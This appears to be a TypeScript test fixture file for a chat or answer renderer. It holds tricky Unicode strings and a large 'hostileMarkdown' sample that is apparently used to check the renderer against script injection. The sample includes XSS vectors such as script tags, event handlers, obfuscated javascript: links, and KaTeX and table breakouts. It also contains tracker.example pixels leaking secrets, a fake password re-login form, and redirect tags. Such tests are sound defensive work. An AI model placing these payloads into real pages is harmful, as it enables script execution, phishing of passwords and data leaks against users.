/** An emoji cut between its two halves, then a family held together by joiners. */
export const splitEmojiPieces = [
  "Half a smile ",
  "\ud83d",
  "\ude00",
  " then a family: \ud83d\udc68\u200d",
  "\ud83d\udc69\u200d\ud83d",
  "\udc67\u200d\ud83d\udc66",
  ". Done.",
]

/** A zero character, which PostgreSQL refuses in text and JSON, and a half character alone. */
export const zeroPieces = ["before ", "\u0000", " between ", "\ud800", " after."]

/** Markup that must never run, load or navigate by itself when an answer is shown. */
export const hostileMarkdown = `# Markup that must stay harmless

<script>window.__hostile = "script"; document.title = "owned"</script>
<img src="x" onerror="window.__hostile = 'img'">
<svg onload="window.__hostile = 'svg'"><circle r="10"/></svg>
<iframe srcdoc="<script>parent.__hostile = 'iframe'</script>"></iframe>
<details open ontoggle="window.__hostile = 'details'"><summary>Open</summary>Inside</details>

[plain](javascript:window.__hostile='link') [mixed case](JaVaScRiPt:window.__hostile='case')
[with a tab](java\tscript:window.__hostile='tab') [entity](&#106;avascript:window.__hostile='entity')
[encoded colon](javascript&colon;window.__hostile='colon') [leading space]( javascript:window.__hostile='space')
[data](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==) [vbscript](vbscript:msgbox(1))
<javascript:window.__hostile='autolink'> <a href="javascript:window.__hostile='anchor'">anchor</a>

![inline picture](https://tracker.example/pixel.png?secret=inline)
![reference picture][spy]

[spy]: https://tracker.example/pixel.png?secret=reference "A title with a quote \\" onmouseover=alert(1)"

<form action="https://tracker.example/collect" method="post"><input name="password" type="password"><button>Sign in again</button></form>
<style>body { display: none !important } * { background: url("https://tracker.example/style.png") }</style>
<base href="https://tracker.example/"><meta http-equiv="refresh" content="0;url=https://tracker.example/">
<link rel="stylesheet" href="https://tracker.example/style.css">

Math: $\\href{javascript:window.__hostile='katex'}{click}$ and $\\url{javascript:alert(1)}$ and $$\\htmlData{onclick=alert(1)}{x} \\includegraphics{https://tracker.example/math.png}$$

Entities: &lt;script&gt;window.__hostile = "entities"&lt;/script&gt; &#x3C;img src=x onerror=alert(1)&#x3E;

\`\`\`html"onmouseover="window.__hostile='fence'
</code></pre><script>window.__hostile = "fence"</script>
\`\`\`

| A table | <img src=x onerror="window.__hostile='table'"> |
| --- | --- |
| \`</td><script>window.__hostile='cell'</script>\` | [x](javascript:alert(1)) |

End of the hostile part.
`
